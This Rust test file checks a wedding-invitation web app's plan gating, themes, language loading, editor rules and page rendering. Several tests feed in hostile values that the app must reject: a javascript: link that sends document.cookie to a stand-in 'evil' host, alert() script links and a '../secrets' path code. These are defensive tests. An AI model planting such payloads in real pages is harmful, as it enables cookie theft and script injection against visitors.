#![cfg(test)]

use chrono::{NaiveDate, TimeZone, Utc};
use rand::rngs::StdRng;
use rand::SeedableRng;
use rocket::http::{ContentType, Header, Status};
use rocket::local::blocking::Client;
use serde_json::{json, Value};
use std::collections::HashMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::analytics::PageView;
use crate::api::{ApiError, InvitationBackend};
use crate::config::AppConfig;
use crate::designs::{
    all_designs, default_design_for_event, design_respects_rule, designs_for_event,
    is_lord_allowed_for_event, is_lord_mandatory_for_event, lord_rule,
};
use crate::editor::{
    default_event, DecorationKind, EditorAction, EditorError, EditorState, EventDetails,
};
use crate::event_content::resolve_content;
use crate::features::{compute_feature_flags, fetch_flags, Feature, FeatureFlags};
use crate::i18n::{
    get_text, missing_keys, BundleSource, DisplayedLanguage, FileBundleSource, LanguageBundle,
    LanguageError, LanguageLoader, Translator, ENGLISH,
};
use crate::invitation::{compose_event_page, compose_page, pick_language};
use crate::models::event::{ContentField, Event, EventType};
use crate::models::media::{MediaItem, MediaKind};
use crate::models::plan::PlanTier;
use crate::models::profile::{CustomTexts, Profile, Section, MAX_EVENTS};
use crate::models::rsvp::{ReactionForm, RsvpForm, WishForm};
use crate::render::render_invitation;
use crate::themes::catalog::{themes_for_plan_remote, CatalogSource};
use crate::themes::{
    all_themes, can_use_theme, theme_by_id, themes_for_plan, Theme, DEFAULT_THEME_ID,
};

// ═══════════════════════════════════════════════════════════
// Fixtures
// ═══════════════════════════════════════════════════════════

/// In-memory profile API. Unknown profiles are 404; unknown feature
/// lookups behave like a dropped connection.
struct FakeBackend {
    profiles: Mutex<HashMap<String, Result<Profile, ApiError>>>,
    features: Mutex<HashMap<String, FeatureFlags>>,
    themes: Mutex<Result<Vec<Theme>, ApiError>>,
    calls: Mutex<Vec<String>>,
    rsvps: Mutex<Vec<RsvpForm>>,
    views: Mutex<Vec<PageView>>,
}

impl FakeBackend {
    fn new() -> Self {
        FakeBackend {
            profiles: Mutex::new(HashMap::new()),
            features: Mutex::new(HashMap::new()),
            themes: Mutex::new(Err(ApiError::Unexpected("connection refused".into()))),
            calls: Mutex::new(Vec::new()),
            rsvps: Mutex::new(Vec::new()),
            views: Mutex::new(Vec::new()),
        }
    }

    /// Serve `profile` with the flags of its own plan.
    fn with_profile(self, profile: Profile) -> Self {
        let id = profile.id.clone().unwrap();
        self.features
            .lock()
            .unwrap()
            .insert(id.clone(), compute_feature_flags(profile.plan_type));
        self.profiles.lock().unwrap().insert(id, Ok(profile));
        self
    }

    fn record(&self, call: &str) {
        self.calls.lock().unwrap().push(call.to_string());
    }

    fn calls(&self) -> Vec<String> {
        self.calls.lock().unwrap().clone()
    }
}

impl InvitationBackend for FakeBackend {
    fn fetch_profile(&self, profile_id: &str) -> Result<Profile, ApiError> {
        self.record("fetch_profile");
        self.profiles
            .lock()
            .unwrap()
            .get(profile_id)
            .cloned()
            .unwrap_or(Err(ApiError::NotFound))
    }

    fn fetch_features(&self, profile_id: &str) -> Result<FeatureFlags, ApiError> {
        self.record("fetch_features");
        self.features
            .lock()
            .unwrap()
            .get(profile_id)
            .cloned()
            .ok_or_else(|| ApiError::Unexpected("connection reset".into()))
    }

    fn fetch_themes(&self, _plan: PlanTier) -> Result<Vec<Theme>, ApiError> {
        self.record("fetch_themes");
        self.themes.lock().unwrap().clone()
    }

    fn create_profile(&self, profile: &Profile, _token: Option<&str>) -> Result<Profile, ApiError> {
        self.record("create_profile");
        let mut saved = profile.clone();
        saved.id = Some("p-new".into());
        Ok(saved)
    }

    fn update_profile(
        &self,
        _profile_id: &str,
        profile: &Profile,
        _token: Option<&str>,
    ) -> Result<Profile, ApiError> {
        self.record("update_profile");
        Ok(profile.clone())
    }

    fn delete_profile(&self, profile_id: &str, hard: bool, token: Option<&str>) -> Result<(), ApiError> {
        self.record(&format!("delete_profile:{}:{}:{}", profile_id, hard, token.unwrap_or("")));
        Ok(())
    }

    fn submit_rsvp(&self, _profile_id: &str, form: &RsvpForm) -> Result<(), ApiError> {
        self.record("submit_rsvp");
        self.rsvps.lock().unwrap().push(form.clone());
        Ok(())
    }

    fn submit_wish(&self, _profile_id: &str, _form: &WishForm) -> Result<(), ApiError> {
        self.record("submit_wish");
        Ok(())
    }

    fn send_reaction(&self, _profile_id: &str, _event_id: &str, _form: &ReactionForm) -> Result<(), ApiError> {
        self.record("send_reaction");
        Ok(())
    }

    fn track_view(&self, view: &PageView) -> Result<(), ApiError> {
        self.record("track_view");
        self.views.lock().unwrap().push(view.clone());
        Ok(())
    }
}

/// Bundles kept in memory, counting how often the loader reaches for them.
struct MemorySource {
    bundles: HashMap<String, String>,
    fetches: AtomicUsize,
}

impl MemorySource {
    fn new(bundles: &[(&str, Value)]) -> Self {
        MemorySource {
            bundles: bundles
                .iter()
                .map(|(code, raw)| (code.to_string(), raw.to_string()))
                .collect(),
            fetches: AtomicUsize::new(0),
        }
    }
}

impl BundleSource for MemorySource {
    fn fetch(&self, code: &str) -> Result<LanguageBundle, LanguageError> {
        self.fetches.fetch_add(1, Ordering::SeqCst);
        match self.bundles.get(code) {
            Some(raw) => LanguageBundle::from_json(code, raw),
            None => Err(LanguageError::Missing(code.to_string())),
        }
    }
}

fn date(raw: &str) -> NaiveDate {
    NaiveDate::parse_from_str(raw, "%Y-%m-%d").unwrap()
}

fn dated_event(id: &str, event_type: EventType, order: u32, on: &str) -> Event {
    let mut event = default_event(event_type, order);
    event.event_id = id.to_string();
    event.date = Some(date(on));
    event
}

fn sample_profile(plan: PlanTier) -> Profile {
    let mut profile = Profile::new("Ananya", "Rohan", EventType::Marriage);
    profile.id = Some("p1".into());
    profile.slug = "ananya-weds-rohan".into();
    profile.plan_type = plan;
    profile.venue = "Hyderabad".into();
    profile.events = vec![
        dated_event("haldi-1", EventType::Haldi, 0, "2099-02-12"),
        dated_event("wedding-1", EventType::Marriage, 1, "2099-02-14"),
    ];
    profile
}

fn image(id: &str) -> MediaItem {
    MediaItem {
        id: id.to_string(),
        kind: MediaKind::Image,
        url: format!("https://cdn.example.com/{}.jpg", id),
        caption: None,
        order: 0,
    }
}

fn english() -> Translator {
    Translator::new(ENGLISH, None, CustomTexts::new())
}

fn locales_dir() -> String {
    format!("{}/website/locales", env!("CARGO_MANIFEST_DIR"))
}

fn client_with(backend: Arc<FakeBackend>) -> Client {
    let languages = Arc::new(LanguageLoader::new(Arc::new(FileBundleSource::new(locales_dir()))));
    let backend: Arc<dyn InvitationBackend> = backend;
    Client::tracked(crate::build_rocket(AppConfig::default(), backend, languages))
        .expect("valid rocket instance")
}

// ═══════════════════════════════════════════════════════════
// Feature flags
// ═══════════════════════════════════════════════════════════

#[test]
fn flags_grow_with_the_plan() {
    for pair in PlanTier::ALL.windows(2) {
        let lower = compute_feature_flags(pair[0]);
        let higher = compute_feature_flags(pair[1]);
        for feature in Feature::ALL {
            if feature == Feature::RequiresWatermark {
                continue;
            }
            if lower.has(feature) {
                assert!(higher.has(feature), "{:?} lost between {} and {}", feature, pair[0], pair[1]);
            }
        }
    }
}

#[test]
fn flags_watermark_only_on_free() {
    assert!(compute_feature_flags(PlanTier::Free).requires_watermark);
    for plan in [PlanTier::Silver, PlanTier::Gold, PlanTier::Platinum] {
        assert!(!compute_feature_flags(plan).requires_watermark);
    }
}

#[test]
fn flags_gallery_caps() {
    assert_eq!(compute_feature_flags(PlanTier::Free).max_gallery_images, Some(0));
    assert_eq!(compute_feature_flags(PlanTier::Silver).max_gallery_images, Some(20));
    assert_eq!(compute_feature_flags(PlanTier::Gold).max_gallery_images, None);
    assert_eq!(compute_feature_flags(PlanTier::Silver).gallery_cap(35), 20);
    assert_eq!(compute_feature_flags(PlanTier::Free).gallery_cap(35), 0);
}

#[test]
fn flags_fail_closed_when_api_unreachable() {
    let backend = FakeBackend::new();
    let flags = fetch_flags(&backend, "nobody");
    assert_eq!(flags, FeatureFlags::fail_closed());
    assert!(!flags.rsvp);
    assert!(flags.requires_watermark);
}

#[test]
fn flags_unknown_name_is_off() {
    let flags = compute_feature_flags(PlanTier::Platinum);
    assert!(flags.has_named("hero_video"));
    assert!(!flags.has_named("teleportation"));
}

// ═══════════════════════════════════════════════════════════
// Designs and themes
// ═══════════════════════════════════════════════════════════

#[test]
fn designs_match_their_event_type() {
    for event_type in EventType::ALL {
        let designs = designs_for_event(event_type);
        assert!(!designs.is_empty(), "no designs for {}", event_type);
        for design in designs {
            assert!(design.supports(event_type), "{} listed for {}", design.id, event_type);
        }
        assert!(default_design_for_event(event_type).is_some());
    }
}

#[test]
fn designs_never_loosen_lord_rule() {
    for design in all_designs() {
        for event_type in design.event_types {
            assert!(design_respects_rule(design, *event_type), "{} breaks {}", design.id, event_type);
        }
    }
}

#[test]
fn designs_never_require_what_they_forbid() {
    for design in all_designs() {
        assert!(
            !design.lord_mandatory || design.lord_allowed,
            "{} requires deity artwork it does not allow",
            design.id
        );
    }
}

#[test]
fn mandatory_lord_is_always_allowed() {
    for event_type in EventType::ALL {
        if is_lord_mandatory_for_event(event_type) {
            assert!(is_lord_allowed_for_event(event_type), "{}", event_type);
        }
    }
    assert!(is_lord_mandatory_for_event(EventType::Marriage));
    assert!(!is_lord_allowed_for_event(EventType::Reception));
}

#[test]
fn lord_rules_per_ceremony() {
    assert!(lord_rule(EventType::Marriage).mandatory);
    assert!(lord_rule(EventType::Haldi).allowed);
    assert!(!lord_rule(EventType::Mehendi).allowed);
    assert!(!lord_rule(EventType::Reception).allowed);
}

#[test]
fn themes_higher_plans_see_more() {
    let mut previous: Vec<String> = Vec::new();
    for plan in PlanTier::ALL {
        let ids: Vec<String> = themes_for_plan(plan).iter().map(|t| t.id.clone()).collect();
        for id in &previous {
            assert!(ids.contains(id), "{} lost at {}", id, plan);
        }
        previous = ids;
    }
    assert!(themes_for_plan(PlanTier::Free).iter().all(|t| t.plan == PlanTier::Free));
}

#[test]
fn themes_usable_only_on_their_plan() {
    assert!(all_themes().windows(2).all(|w| w[0].order <= w[1].order));
    assert!(can_use_theme(DEFAULT_THEME_ID, PlanTier::Free));
    assert!(!can_use_theme("palace-luxe", PlanTier::Gold));
    assert!(can_use_theme("palace-luxe", PlanTier::Platinum));
    assert!(!can_use_theme("no-such-theme", PlanTier::Platinum));
    for tier in [PlanTier::Free, PlanTier::Silver, PlanTier::Gold, PlanTier::Platinum] {
        for theme in themes_for_plan(tier) {
            assert!(can_use_theme(&theme.id, tier));
        }
    }
}

#[test]
fn themes_unknown_id_resolves_to_default() {
    assert_eq!(theme_by_id("no-such-theme").id, DEFAULT_THEME_ID);
}

#[test]
fn themes_catalog_falls_back_to_builtin() {
    let backend = FakeBackend::new();
    let (themes, source) = themes_for_plan_remote(&backend, PlanTier::Free);
    assert_eq!(source, CatalogSource::LocalFallback);
    assert_eq!(themes.len(), themes_for_plan(PlanTier::Free).len());

    *backend.themes.lock().unwrap() = Ok(Vec::new());
    let (_, source) = themes_for_plan_remote(&backend, PlanTier::Free);
    assert_eq!(source, CatalogSource::LocalFallback);
}

#[test]
fn themes_catalog_prefers_remote_sorted() {
    let backend = FakeBackend::new();
    let mut late = theme_by_id("palace-luxe").clone();
    late.order = 9;
    let mut early = theme_by_id("classic-ivory").clone();
    early.order = 1;
    *backend.themes.lock().unwrap() = Ok(vec![late, early]);

    let (themes, source) = themes_for_plan_remote(&backend, PlanTier::Platinum);
    assert_eq!(source, CatalogSource::Remote);
    assert_eq!(themes[0].id, "classic-ivory");
    assert_eq!(themes[1].id, "palace-luxe");
}

// ═══════════════════════════════════════════════════════════
// Languages
// ═══════════════════════════════════════════════════════════

#[test]
fn text_lookup_prefers_override_then_bundle_then_key() {
    let bundle = LanguageBundle::from_json("en", &json!({"greetings": {"title": "Wishes"}}).to_string()).unwrap();
    let mut custom = CustomTexts::new();
    assert_eq!(get_text(Some(&bundle), "greetings", "title", &custom, "en"), "Wishes");

    custom
        .entry("en".into())
        .or_default()
        .insert("greetings.title".into(), "Blessings".into());
    assert_eq!(get_text(Some(&bundle), "greetings", "title", &custom, "en"), "Blessings");
    // Overrides are per language
    assert_eq!(get_text(Some(&bundle), "greetings", "title", &custom, "hi"), "Wishes");

    assert_eq!(get_text(Some(&bundle), "greetings", "subtitle", &custom, "en"), "subtitle");
    assert_eq!(get_text(None, "greetings", "title", &CustomTexts::new(), "en"), "title");
}

#[test]
fn loader_caches_bundles() {
    let source = Arc::new(MemorySource::new(&[("en", json!({"hero": {"invite_line": "Join us"}}))]));
    let loader = LanguageLoader::new(source.clone());

    let first = loader.load("en").unwrap();
    let second = loader.load("en").unwrap();
    assert!(Arc::ptr_eq(&first, &second));
    assert_eq!(source.fetches.load(Ordering::SeqCst), 1);
}

#[test]
fn loader_falls_back_to_english() {
    let source = Arc::new(MemorySource::new(&[("en", json!({"hero": {"invite_line": "Join us"}}))]));
    let loader = LanguageLoader::new(source);

    let bundle = loader.load_or_english("kn").unwrap();
    assert_eq!(bundle.code, "en");
    assert!(loader.cached("kn").is_none());
}

#[test]
fn loader_preload_counts_successes() {
    let source = Arc::new(MemorySource::new(&[
        ("en", json!({"hero": {"invite_line": "Join us"}})),
        ("hi", json!({"hero": {"invite_line": "पधारें"}})),
    ]));
    let loader = LanguageLoader::new(source);
    let codes = vec!["en".to_string(), "hi".to_string(), "xx".to_string()];
    assert_eq!(loader.preload(&codes), 2);
    assert!(loader.cached("hi").is_some());
}

#[test]
fn file_source_rejects_path_like_codes() {
    let source = FileBundleSource::new(locales_dir());
    assert!(matches!(source.fetch("../secrets"), Err(LanguageError::Unsupported(_))));
    assert!(matches!(source.fetch("zz"), Err(LanguageError::Missing(_))));
}

#[test]
fn shipped_bundles_are_complete() {
    let source = FileBundleSource::new(locales_dir());
    let english = source.fetch("en").unwrap();
    assert_eq!(english.get("greetings", "title"), Some("Wishes"));
    for code in ["hi", "te"] {
        let bundle = source.fetch(code).unwrap();
        assert!(missing_keys(&bundle, &english).is_empty(), "{} is incomplete", code);
    }
}

#[test]
fn missing_keys_lists_gaps() {
    let english = LanguageBundle::from_json(
        "en",
        &json!({"rsvp": {"title": "RSVP", "submit": "Send"}}).to_string(),
    )
    .unwrap();
    let partial = LanguageBundle::from_json("ta", &json!({"rsvp": {"title": "பதில்"}}).to_string()).unwrap();
    assert_eq!(missing_keys(&partial, &english), vec!["rsvp.submit".to_string()]);
}

#[test]
fn stale_language_load_is_dropped() {
    let view = DisplayedLanguage::new();
    let hindi = Arc::new(LanguageBundle::new("hi", HashMap::new()));
    let telugu = Arc::new(LanguageBundle::new("te", HashMap::new()));

    let first = view.begin_switch("hi");
    let second = view.begin_switch("te");

    // The newer switch lands first; the older one arrives late.
    assert!(view.complete(&second, telugu));
    assert!(!view.complete(&first, hindi));
    assert_eq!(view.current().unwrap().code, "te");
}

#[test]
fn load_after_unmount_is_dropped() {
    let view = DisplayedLanguage::new();
    let ticket = view.begin_switch("hi");
    view.unmount();
    assert!(!view.complete(&ticket, Arc::new(LanguageBundle::new("hi", HashMap::new()))));
    assert!(view.current().is_none());
}

// ═══════════════════════════════════════════════════════════
// Event content
// ═══════════════════════════════════════════════════════════

#[test]
fn haldi_shows_only_haldi_fields() {
    let mut event = dated_event("h", EventType::Haldi, 0, "2099-02-12");
    event.content.insert("bride_name".into(), "Ananya".into());
    event.content.insert("dress_code".into(), "Yellow".into());
    event.content.insert("muhurat_time".into(), "10:30".into());
    event.content.insert("groom_name".into(), "   ".into());

    let fields: Vec<ContentField> = resolve_content(&event).into_iter().map(|f| f.field).collect();
    assert_eq!(fields, vec![ContentField::BrideName, ContentField::DressCode]);
}

// ═══════════════════════════════════════════════════════════
// Editor
// ═══════════════════════════════════════════════════════════

#[test]
fn editor_blank_profile() {
    let state = EditorState::blank("Ananya", "Rohan", EventType::Marriage);
    assert_eq!(state.draft.slug, "ananya-weds-rohan");
    assert_eq!(state.draft.events.len(), 1);
    assert!(state.draft.events[0].decorations.lord);
    assert!(state.dirty);
}

#[test]
fn editor_failed_update_leaves_draft_untouched() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    let before = state.draft.clone();

    let err = state.set_names("Meera", "  ").unwrap_err();
    assert_eq!(err, EditorError::Required { field: "groom_name".into() });
    assert_eq!(state.draft, before);
    assert!(!state.dirty);

    state.set_names("Meera", "Arjun").unwrap();
    assert_eq!(state.draft.couple_display(), "Meera & Arjun");
    assert!(state.dirty);
}

#[test]
fn editor_refuses_to_remove_last_visible_event() {
    let backend = FakeBackend::new();
    let mut state = EditorState::blank("Ananya", "Rohan", EventType::Marriage);
    let only = state.draft.events[0].event_id.clone();

    assert_eq!(state.remove_event(&only), Err(EditorError::LastVisibleEvent));
    assert_eq!(state.set_event_visibility(&only, false), Err(EditorError::LastVisibleEvent));
    assert_eq!(state.draft.events.len(), 1);
    assert!(backend.calls().is_empty());
}

#[test]
fn editor_remove_keeps_order_dense() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    let reception = state.add_event(EventType::Reception).unwrap();
    state.remove_event("haldi-1").unwrap();

    assert!(state.draft.has_dense_order());
    let order: Vec<&str> = state.draft.visible_events().iter().map(|e| e.event_id.as_str()).collect();
    assert_eq!(order, vec!["wedding-1", reception.as_str()]);
}

#[test]
fn editor_move_event() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    let reception = state.add_event(EventType::Reception).unwrap();
    state.move_event(&reception, 0).unwrap();

    assert!(state.draft.has_dense_order());
    assert_eq!(state.draft.visible_events()[0].event_id, reception);
    assert_eq!(
        state.move_event(&reception, 3),
        Err(EditorError::InvalidMove { to: 3, len: 3 })
    );
}

#[test]
fn editor_event_limit() {
    let mut state = EditorState::blank("Ananya", "Rohan", EventType::Marriage);
    while state.draft.events.len() < MAX_EVENTS {
        state.add_event(EventType::Reception).unwrap();
    }
    assert_eq!(state.add_event(EventType::Haldi), Err(EditorError::TooManyEvents));
    assert_eq!(state.draft.events.len(), MAX_EVENTS);
}

#[test]
fn editor_content_must_match_schema() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    let err = state.set_event_content("haldi-1", "muhurat_time", "10:30").unwrap_err();
    assert!(matches!(err, EditorError::FieldNotInSchema { .. }));

    state.set_event_content("haldi-1", "dress_code", "Yellow").unwrap();
    assert_eq!(state.draft.events[0].content.get("dress_code").map(String::as_str), Some("Yellow"));

    state.set_event_content("haldi-1", "dress_code", "").unwrap();
    assert!(state.draft.events[0].content.is_empty());
}

#[test]
fn editor_design_must_fit_event() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    let err = state
        .set_event_design("haldi-1", Some("marriage-temple-gold".into()))
        .unwrap_err();
    assert!(matches!(err, EditorError::DesignNotForEvent { .. }));
    state
        .set_event_design("haldi-1", Some("haldi-marigold-sunshine".into()))
        .unwrap();
}

#[test]
fn editor_lord_rules() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    assert_eq!(
        state.set_decoration("wedding-1", DecorationKind::Lord, false),
        Err(EditorError::LordMandatory(EventType::Marriage))
    );

    let mehendi = state.add_event(EventType::Mehendi).unwrap();
    assert_eq!(
        state.set_decoration(&mehendi, DecorationKind::Lord, true),
        Err(EditorError::LordProhibited(EventType::Mehendi))
    );
    state.set_decoration(&mehendi, DecorationKind::Flowers, false).unwrap();
}

#[test]
fn editor_theme_gated_by_plan() {
    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    assert_eq!(
        state.set_theme(Some("palace-luxe".into())),
        Err(EditorError::ThemeLocked {
            theme: "palace-luxe".into(),
            required: PlanTier::Platinum
        })
    );
    state.set_theme(Some("minimal-blush".into())).unwrap();
    assert_eq!(state.draft.theme_id.as_deref(), Some("minimal-blush"));
}

#[test]
fn editor_gallery_gating() {
    let mut free = EditorState::new(sample_profile(PlanTier::Free));
    assert_eq!(
        free.add_media(image("a")),
        Err(EditorError::FeatureLocked(Feature::GalleryLimited))
    );

    let mut silver = EditorState::new(sample_profile(PlanTier::Silver));
    for i in 0..20 {
        silver.add_media(image(&format!("img-{}", i))).unwrap();
    }
    assert_eq!(silver.add_media(image("one-too-many")), Err(EditorError::GalleryFull(20)));

    silver.move_media("img-19", 0).unwrap();
    assert_eq!(silver.draft.media[0].id, "img-19");
    assert!(silver.draft.media.iter().enumerate().all(|(i, m)| m.order as usize == i));
}

#[test]
fn editor_languages() {
    let mut free = EditorState::new(sample_profile(PlanTier::Free));
    assert_eq!(
        free.enable_language("hi"),
        Err(EditorError::FeatureLocked(Feature::MultiLanguage))
    );
    assert_eq!(free.disable_language("en"), Err(EditorError::EnglishRequired));

    let mut silver = EditorState::new(sample_profile(PlanTier::Silver));
    assert_eq!(
        silver.enable_language("klingon"),
        Err(EditorError::UnsupportedLanguage("klingon".into()))
    );
    silver.enable_language("te").unwrap();
    silver.enable_language("te").unwrap();
    assert_eq!(silver.draft.enabled_languages, vec!["en".to_string(), "te".to_string()]);
}

#[test]
fn editor_custom_texts_need_gold() {
    let mut silver = EditorState::new(sample_profile(PlanTier::Silver));
    assert_eq!(
        silver.set_custom_text("en", "greetings.title", "Blessings"),
        Err(EditorError::FeatureLocked(Feature::CustomTexts))
    );

    let mut gold = EditorState::new(sample_profile(PlanTier::Gold));
    gold.set_custom_text("en", "greetings.title", "Blessings").unwrap();
    assert_eq!(gold.draft.custom_texts["en"]["greetings.title"], "Blessings");

    let too_long = "x".repeat(501);
    assert!(matches!(
        gold.set_custom_text("en", "greetings.title", &too_long),
        Err(EditorError::TooLong { max: 500, .. })
    ));

    gold.set_custom_text("en", "greetings.title", "").unwrap();
    assert!(gold.draft.custom_texts.is_empty());
}

#[test]
fn editor_save_validates_before_sending() {
    let backend = FakeBackend::new();
    let mut state = EditorState::blank("Ananya", "Rohan", EventType::Haldi);

    // The default event has no date yet
    match state.save(&backend, Some("tok")) {
        Err(EditorError::Invalid(errors)) => {
            assert!(errors.iter().any(|e| e.field == "events[0].date"));
        }
        other => panic!("expected validation failure, got {:?}", other),
    }
    assert!(backend.calls().is_empty());

    let id = state.draft.events[0].event_id.clone();
    state
        .update_event_details(
            &id,
            EventDetails {
                name: "Haldi".into(),
                date: Some(date("2099-02-12")),
                ..EventDetails::default()
            },
        )
        .unwrap();

    let saved = state.save(&backend, Some("tok")).unwrap();
    assert_eq!(saved.id.as_deref(), Some("p-new"));
    assert!(!state.dirty);

    state.set_venue("Vijayawada").unwrap();
    state.save(&backend, Some("tok")).unwrap();
    assert_eq!(backend.calls(), vec!["create_profile", "update_profile"]);
}

#[test]
fn editor_links_must_be_web_urls() {
    let mut state = EditorState::new(sample_profile(PlanTier::Gold));
    let details = EventDetails {
        name: "Haldi".into(),
        date: Some(date("2099-02-12")),
        map_link: Some("javascript:fetch('//evil/'+document.cookie)".into()),
        ..EventDetails::default()
    };
    assert_eq!(
        state.update_event_details("haldi-1", details.clone()),
        Err(EditorError::UnsafeLink { field: "map_link".into() })
    );
    assert!(state.draft.events[0].map_link.is_none());

    let details = EventDetails {
        map_link: Some("https://maps.google.com/?q=Hyderabad".into()),
        ..details
    };
    state.update_event_details("haldi-1", details).unwrap();

    assert_eq!(
        state.set_event_attachments("haldi-1", Some("data:video/mp4;base64,AAAA".into()), None),
        Err(EditorError::UnsafeLink { field: "video_url".into() })
    );
    let mut item = image("a");
    item.url = "javascript:alert(1)".into();
    assert_eq!(state.add_media(item), Err(EditorError::UnsafeLink { field: "url".into() }));
}

#[test]
fn render_drops_script_links_from_api_profiles() {
    let mut profile = sample_profile(PlanTier::Gold);
    profile.events[0].map_link = Some("javascript:alert(document.cookie)".into());
    profile.events[1].map_link = Some("https://maps.google.com/?q=Hyderabad".into());
    let mut bad = image("bad");
    bad.url = "javascript:alert(1)".into();
    profile.media = vec![image("good"), bad];
    assert!(profile
        .validate()
        .iter()
        .any(|e| e.field == "events[0].map_link"));

    let t = english();
    let flags = compute_feature_flags(PlanTier::Gold);
    let mut rng = StdRng::seed_from_u64(1);
    let page = compose_page(&profile, &flags, &t, Utc::now(), &mut rng).unwrap();
    let html = render_invitation(&page);

    assert!(!html.to_lowercase().contains("javascript:"));
    assert!(html.contains("href=\"https://maps.google.com/?q=Hyderabad\""));
    assert!(html.contains("https://cdn.example.com/good.jpg"));
}

#[test]
fn editor_actions_from_json() {
    let action: EditorAction =
        serde_json::from_str(r#"{"action":"set_section","section":"gallery","enabled":false}"#).unwrap();
    assert_eq!(
        action,
        EditorAction::SetSection {
            section: Section::Gallery,
            enabled: false
        }
    );

    let mut state = EditorState::new(sample_profile(PlanTier::Free));
    state.apply(action).unwrap();
    assert!(!state.draft.sections.is_enabled(Section::Gallery));
    assert!(state.draft.sections.is_enabled(Section::Rsvp));
}

// ═══════════════════════════════════════════════════════════
// Invitation composition
// ═══════════════════════════════════════════════════════════

#[test]
fn compose_refuses_expired_profile() {
    let mut profile = sample_profile(PlanTier::Gold);
    profile.expires_at = Some(Utc.with_ymd_and_hms(2024, 1, 1, 0, 0, 0).unwrap());
    let flags = compute_feature_flags(profile.plan_type);
    let t = english();
    let mut rng = StdRng::seed_from_u64(7);

    let result = compose_page(&profile, &flags, &t, Utc::now(), &mut rng);
    assert!(matches!(result, Err(ApiError::Expired)));
}

#[test]
fn compose_refuses_deleted_profile() {
    let mut profile = sample_profile(PlanTier::Gold);
    profile.is_deleted = true;
    let flags = compute_feature_flags(profile.plan_type);
    let t = english();
    let mut rng = StdRng::seed_from_u64(7);

    let result = compose_page(&profile, &flags, &t, Utc::now(), &mut rng);
    assert!(matches!(result, Err(ApiError::NotFound)));
}

#[test]
fn compose_countdown_uses_couple_timezone() {
    let profile = sample_profile(PlanTier::Free);
    let flags = compute_feature_flags(profile.plan_type);
    let t = english();
    let mut rng = StdRng::seed_from_u64(7);
    // 20:00 UTC is already the next morning in India
    let now = Utc.with_ymd_and_hms(2099, 2, 10, 20, 0, 0).unwrap();

    let page = compose_page(&profile, &flags, &t, now, &mut rng).unwrap();
    let countdown = page.countdown.unwrap();
    assert_eq!(countdown.date, date("2099-02-12"));
    assert_eq!(countdown.days, 1);

    let mut utc_profile = sample_profile(PlanTier::Free);
    utc_profile.timezone = "UTC".into();
    let page = compose_page(&utc_profile, &flags, &t, now, &mut rng).unwrap();
    assert_eq!(page.countdown.unwrap().days, 2);
}

#[test]
fn compose_event_page_filters_by_type() {
    let profile = sample_profile(PlanTier::Silver);
    let flags = compute_feature_flags(profile.plan_type);
    let t = english();
    let mut rng = StdRng::seed_from_u64(7);

    let page = compose_event_page(&profile, &flags, &t, EventType::Haldi, Utc::now(), &mut rng).unwrap();
    assert_eq!(page.events.len(), 1);
    assert_eq!(page.events[0].event.event_id, "haldi-1");
}

#[test]
fn compose_hides_invisible_events() {
    let mut profile = sample_profile(PlanTier::Silver);
    profile.events[0].visible = false;
    let flags = compute_feature_flags(profile.plan_type);
    let t = english();
    let mut rng = StdRng::seed_from_u64(7);

    let page = compose_page(&profile, &flags, &t, Utc::now(), &mut rng).unwrap();
    let ids: Vec<&str> = page.events.iter().map(|p| p.event.event_id.as_str()).collect();
    assert_eq!(ids, vec!["wedding-1"]);
}

#[test]
fn compose_applies_plan_gates() {
    let mut profile = sample_profile(PlanTier::Silver);
    profile.media = (0..25).map(|i| image(&format!("img-{}", i))).collect();
    profile.enabled_languages = vec!["en".into(), "hi".into()];
    let t = english();
    let mut rng = StdRng::seed_from_u64(7);

    let silver = compute_feature_flags(PlanTier::Silver);
    let page = compose_page(&profile, &silver, &t, Utc::now(), &mut rng).unwrap();
    assert_eq!(page.gallery.len(), 20);
    assert!(!page.watermark);
    assert!(page.sections.wishes);
    assert_eq!(page.languages.len(), 2);
    assert!(page.languages[0].active);

    let free = compute_feature_flags(PlanTier::Free);
    let page = compose_page(&profile, &free, &t, Utc::now(), &mut rng).unwrap();
    assert!(page.gallery.is_empty());
    assert!(!page.sections.gallery);
    assert!(!page.sections.wishes);
    assert!(page.watermark);
    assert!(page.languages.is_empty());
}

#[test]
fn language_pick_respects_plan_and_profile() {
    let mut profile = sample_profile(PlanTier::Silver);
    profile.enabled_languages = vec!["en".into(), "hi".into()];

    let silver = compute_feature_flags(PlanTier::Silver);
    assert_eq!(pick_language(&profile, &silver, Some("hi")), "hi");
    assert_eq!(pick_language(&profile, &silver, Some("te")), "en");
    assert_eq!(pick_language(&profile, &silver, None), "en");

    let free = compute_feature_flags(PlanTier::Free);
    assert_eq!(pick_language(&profile, &free, Some("hi")), "en");
}

// ═══════════════════════════════════════════════════════════
// Public routes
// ═══════════════════════════════════════════════════════════

#[test]
fn invitation_page_renders() {
    let backend = Arc::new(FakeBackend::new().with_profile(sample_profile(PlanTier::Silver)));
    let client = client_with(backend);

    let response = client.get("/i/p1").dispatch();
    assert_eq!(response.status(), Status::Ok);
    let body = response.into_string().unwrap();
    assert!(body.contains("Ananya"));
    assert!(body.contains("event-card"));
    assert!(body.contains("data-kind=\"rsvp\""));
    assert!(!body.contains("class=\"watermark\""));
}

#[test]
fn invitation_page_in_requested_language() {
    let mut profile = sample_profile(PlanTier::Silver);
    profile.enabled_languages = vec!["en".into(), "hi".into()];
    let client = client_with(Arc::new(FakeBackend::new().with_profile(profile)));

    let body = client.get("/i/p1?lang=hi").dispatch().into_string().unwrap();
    assert!(body.contains("<html lang=\"hi\">"));
    assert!(body.contains("समारोह"));
    assert!(body.contains("language-switcher"));
}

#[test]
fn expired_invitation_shows_expired_page() {
    let backend = FakeBackend::new();
    backend
        .profiles
        .lock()
        .unwrap()
        .insert("old".into(), Err(ApiError::Expired));
    let client = client_with(Arc::new(backend));

    let response = client.get("/i/old").dispatch();
    assert_eq!(response.status(), Status::Gone);
    let body = response.into_string().unwrap();
    assert!(body.contains("This invitation has expired"));
    assert!(!body.contains("Invitation not found"));
}

#[test]
